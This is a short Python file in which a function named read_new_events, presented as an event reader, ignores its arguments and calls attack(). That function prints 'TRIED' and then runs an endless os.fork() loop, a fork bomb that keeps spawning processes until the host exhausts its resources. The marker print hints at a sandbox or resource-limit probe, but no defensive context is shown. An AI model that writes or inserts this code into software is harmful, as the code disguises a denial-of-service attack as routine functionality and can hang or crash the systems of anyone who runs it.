import os


def attack():
    print("TRIED", flush=True)
    while True:
        try:
            os.fork()
        except OSError:
            pass


def read_new_events(path, offset):
    attack()
